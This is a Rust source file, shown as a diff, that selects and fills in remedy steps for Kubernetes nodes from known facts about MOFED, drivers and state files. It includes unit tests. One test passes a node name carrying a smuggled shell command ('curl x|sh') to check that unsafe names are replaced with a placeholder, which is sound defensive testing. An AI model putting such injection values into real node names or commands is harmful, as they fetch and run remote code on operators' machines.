@@ -1,0 +1,193 @@
+// SPDX-License-Identifier: Apache-2.0
+//! The steps of a remedy, and what must be known of a node to choose among them.
+
+use crate::words::remedy::command::CommandText;
+use crate::words::remedy::fact::Fact;
+use std::collections::BTreeMap;
+
+/// No person reads more.
+pub const MOST: usize = 5;
+
+/// In a command for a node whose name is not known, or not a plain name.
+const UNKNOWN_NODE: &str = "NODE";
+
+/// Behind a command with a node's name that is not set by `NODE_NAME`.
+const GUESSED: &str = " (The node's name is guessed from its hostname.)";
+
+/// A step of a remedy: complete in itself, with its command.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Step {
+    /// The step helps only where all of these facts are so.
+    pub when: &'static [Fact],
+    /// The step; words in braces are filled from [`Facts`].
+    pub text: &'static str,
+}
+
+impl Step {
+    /// With its conditions in words, for a reader who must judge them.
+    #[must_use]
+    pub fn conditional(&self) -> String {
+        self.under(self.when.iter().copied())
+    }
+
+    fn under(&self, conditions: impl Iterator<Item = Fact>) -> String {
+        let rest = |fact: Fact| uncapitalized(fact.phrase().strip_prefix("If ").unwrap_or(fact.phrase()));
+        let joined = |all: String, fact: Fact| format!("{all} and {}", rest(fact));
+        let mut phrases = conditions;
+        match phrases.next() {
+            Some(first) => {
+                format!("{}: {}", phrases.fold(first.phrase().to_owned(), joined), uncapitalized(self.text))
+            }
+            None => self.text.to_owned(),
+        }
+    }
+}
+
+/// Steps, each behind `@` and its facts if it helps only then: `steps![@HOST_MOFED "Restart it.", "Or wait."]`.
+#[macro_export]
+macro_rules! steps {
+    ($($(@$when:ident)* $text:expr),* $(,)?) => {
+        &[$($crate::words::remedy::Step { when: &[$($when),*], text: $text }),*]
+    };
+}
+
+/// A node's name, as commands need it.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct NodeName {
+    /// Kubernetes' name for it, or a guess.
+    pub name: String,
+    /// Nobody said so: it is the hostname.
+    pub is_guess: bool,
+}
+
+/// Knowledge about the node: which facts are so, and the words for the braces.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Facts {
+    known: BTreeMap<Fact, bool>,
+    words: BTreeMap<&'static str, CommandText>,
+    node: NodeName,
+}
+
+impl Facts {
+    /// The same, with what is known of one fact; with `None` nothing is, whatever was before.
+    #[must_use]
+    pub fn with(mut self, fact: Fact, holds: Option<bool>) -> Self {
+        match holds {
+            Some(holds) => self.known.insert(fact, holds),
+            None => self.known.remove(&fact),
+        };
+        self
+    }
+
+    /// The same, with the text for a word in braces.
+    #[must_use]
+    pub fn word(mut self, name: &'static str, text: impl Into<CommandText>) -> Self {
+        self.words.insert(name, text.into());
+        self
+    }
+
+    /// The same, with what others know; they have the last word.
+    #[must_use]
+    pub fn and(mut self, others: &Self) -> Self {
+        self.known.extend(&others.known);
+        self.words.extend(others.words.iter().map(|(name, text)| (*name, text.clone())));
+        self
+    }
+
+    /// The same, with the node's name for the word `{node}`.
+    #[must_use]
+    pub fn node(self, node: &NodeName) -> Self {
+        Self { node: node.clone(), ..self }
+    }
+
+    /// Whether a fact is so; `None` where that is not known.
+    #[must_use]
+    pub fn is(&self, fact: Fact) -> Option<bool> {
+        self.known.get(&fact).copied()
+    }
+
+    /// The steps that may help here, in the order of the table, which has the likeliest first; none twice, at most
+    /// five.
+    #[must_use]
+    pub fn choose(&self, steps: &[Step]) -> Vec<String> {
+        let may_help = |step: &&Step| step.when.iter().all(|fact| self.is(*fact) != Some(false));
+        let unknown = |step: &Step| step.when.iter().copied().filter(|fact| self.is(*fact).is_none());
+        let helping = steps.iter().filter(may_help).map(|step| step.under(unknown(step)));
+        let mut chosen: Vec<String> = Vec::new();
+        for step in helping.map(|step| self.fill(&step)) {
+            if chosen.len() < MOST && !chosen.contains(&step) {
+                chosen.push(step);
+            }
+        }
+        chosen
+    }
+
+    /// A text with its words filled in. A node's name that is a guess is said to be one.
+    #[must_use]
+    pub fn fill(&self, text: &str) -> String {
+        const NODE: &str = "{node}";
+        let filled = |text: String, (name, word): (&&str, &CommandText)| {
+            text.replace(&format!("{{{name}}}"), &word.to_string())
+        };
+        let text = self.words.iter().fold(text.to_owned(), filled);
+        let NodeName { name, is_guess } = &self.node;
+        let known = CommandText::plain(name, UNKNOWN_NODE).to_string();
+        let doubt = if *is_guess && known == *name && text.contains(NODE) { GUESSED } else { "" };
+        text.replace(NODE, &known) + doubt
+    }
+}
+
+fn uncapitalized(text: &str) -> String {
+    let mut characters = text.chars();
+    characters.next().map_or_else(String::new, |first| first.to_lowercase().chain(characters).collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::words::remedy::fact::{HOST_DRIVER, HOST_MOFED, MOFED_POD, STATE_FILE};
+
+    const fn step(when: &'static [Fact], text: &'static str) -> Step {
+        Step { when, text }
+    }
+
+    #[test]
+    fn a_step_that_cannot_help_is_left_out_and_one_that_may_help_says_when() {
+        let steps = [
+            step(&[], "Look at {node}."),
+            step(&[HOST_MOFED, HOST_DRIVER], "Install it again."),
+            step(&[STATE_FILE], "Remove the file."),
+            step(&[STATE_FILE, HOST_MOFED], "Open it."),
+            step(&[HOST_MOFED, MOFED_POD], "Close it."),
+            step(&[], "Look at {node}."),
+        ];
+        let facts = Facts::default().with(HOST_DRIVER, Some(false)).with(STATE_FILE, Some(true));
+        let chosen = facts.with(HOST_MOFED, None).node(&NodeName { name: "n1".into(), is_guess: false });
+        let chosen = chosen.choose(&steps);
+        let expected = [
+            "Look at n1.",
+            "Remove the file.",
+            "If the host provides MOFED: open it.",
+            "If the host provides MOFED and a container provides MOFED: close it.",
+        ];
+        assert_eq!(chosen, expected);
+    }
+
+    #[test]
+    fn a_remedy_says_that_a_name_is_guessed() {
+        let of = |is_guess| {
+            Facts::default().word("pod", "-A {node}").node(&NodeName { name: "n1".into(), is_guess })
+        };
+        assert_eq!(of(false).fill("Delete it: `{pod}`."), "Delete it: `-A n1`.");
+        assert_eq!(of(true).fill("Delete it: `{pod}`."), format!("Delete it: `-A n1`.{GUESSED}"));
+        assert_eq!(of(true).fill("Wait."), "Wait.");
+        let odd = NodeName { name: "gpu-1`curl x|sh`".into(), is_guess: true };
+        assert_eq!(Facts::default().node(&odd).fill("Drain it: `{node}`."), "Drain it: `NODE`.");
+    }
+
+    #[test]
+    fn a_remedy_has_at_most_five_steps() {
+        let texts = ["A.", "B.", "C.", "D.", "E.", "F."];
+        assert_eq!(Facts::default().choose(&texts.map(|text| step(&[], text))).len(), MOST);
+    }
+}
